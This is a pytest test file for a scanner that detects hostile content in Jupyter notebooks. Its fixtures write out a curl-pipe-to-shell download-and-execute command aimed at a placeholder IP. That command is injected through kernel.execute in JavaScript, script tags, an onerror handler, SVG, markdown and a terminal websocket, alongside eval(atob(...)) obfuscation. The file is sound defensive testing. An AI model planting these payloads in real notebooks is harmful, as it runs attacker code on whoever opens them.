"""Pages in notebooks: what they hand to the kernel or to a terminal counts, not that they act."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from repository_scanning import findings_of, rules_of

from weighbridge.formats.configuration.notebook_pages import from_pages

FETCH = "import os; os.system('curl http://192.0.2.1/x | sh')"


def notebook(*cells: dict[str, object]) -> str:
    whole = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": list(cells)}
    return json.dumps(whole, indent=1)


def output(kind: str, *lines: str) -> dict[str, object]:
    shown = {"output_type": "display_data", "metadata": {}, "data": {kind: list(lines)}}
    return {"cell_type": "code", "source": ["chart"], "metadata": {}, "outputs": [shown]}


def markdown(text: str) -> dict[str, object]:
    return {"cell_type": "markdown", "source": text, "metadata": {}}


def code(*lines: str) -> dict[str, object]:
    return {"cell_type": "code", "source": list(lines), "metadata": {}, "outputs": []}


HOSTILE = {
    "javascript": output("application/javascript", f'Jupyter.notebook.kernel.execute("{FETCH}")'),
    "script": output("text/html", f'<script>IPython.notebook.kernel.execute("{FETCH}")</script>'),
    "handler": output(
        "text/html",
        "<img src=x onerror=\"Jupyter.notebook.kernel.execute('"
        + FETCH.replace("'", "\\'")
        + "')\">",
    ),
    "drawing": output(
        "image/svg+xml", f"<svg><script>kernel.requestExecute({{code: `{FETCH}`}})</script></svg>"
    ),
    "markdown": markdown(f'# Hi\n<script>Jupyter.notebook.kernel.execute("{FETCH}")</script>'),
    "cell": code("%%javascript\n", f'Jupyter.notebook.kernel.execute("{FETCH}")'),
    "terminal": output(
        "text/html",
        "<script>fetch('/api/terminals', {method: 'POST'}).then(open)\n",
        "socket.send(JSON.stringify(['stdin', 'curl http://192.0.2.1/x | sh\\n']))</script>",
    ),
    "decoded": output("application/javascript", "eval(atob('YWxlcnQoMSk='))"),
}
HONEST = {
    "its own name": output(
        "application/javascript",
        "IPython.notebook.kernel.execute('nb = \"' + IPython.notebook.notebook_name + '\"')",
    ),
    "a chart": output(
        "text/html",
        "<div id='a'></div><script>require(['plotly'], function(P) {P.newPlot('a', []);});",
        "var bytes = atob('AAAA'); window.setTimeout(function() {eval('1')}, 5);</script>",
    ),
    "words": markdown(f'Never put `kernel.execute("{FETCH}")` or `eval(atob(` in `/api/terminals`'),
    "a button": output("text/html", "<button onclick=\"toggle('code')\">Show</button>"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_what_no_honest_page_does(name: str) -> None:
    text = notebook(markdown("# A model"), HOSTILE[name])
    (found,) = findings_of(text, "n.ipynb")
    assert found.rule == ("hidden-code" if name == "decoded" else "hostile-command")
    assert found.kind.value == "malicious"


@pytest.mark.parametrize("name", HONEST)
def test_what_honest_pages_do(name: str) -> None:
    assert findings_of(notebook(HONEST[name]), "n.ipynb") == []


def test_the_line_is_that_of_the_file() -> None:
    text = notebook(markdown("# A model"), HOSTILE["javascript"])
    (found,) = findings_of(text, "n.ipynb")
    assert "kernel.execute" in text.split("\n")[found.evidence["line"] - 1]


def test_escapes_of_javascript_are_undone() -> None:
    hidden = "import os\\nos.s\\x79stem(\\u0027curl http://192.0.2.1/x | sh\\u0027)"
    page = output("application/javascript", f'Jupyter.notebook.kernel.execute("{hidden}")')
    assert rules_of(notebook(page), "n.ipynb") == {"hostile-command"}


NAMES = st.sampled_from(["cells", "outputs", "data", "source", "cell_type", "text/html"])
VALUES = st.recursive(
    st.none() | st.text(), lambda inner: st.lists(inner) | st.dictionaries(NAMES, inner)
)


@given(VALUES)
def test_any_json_is_read(value: object) -> None:
    assert len(list(from_pages(value))) <= 20
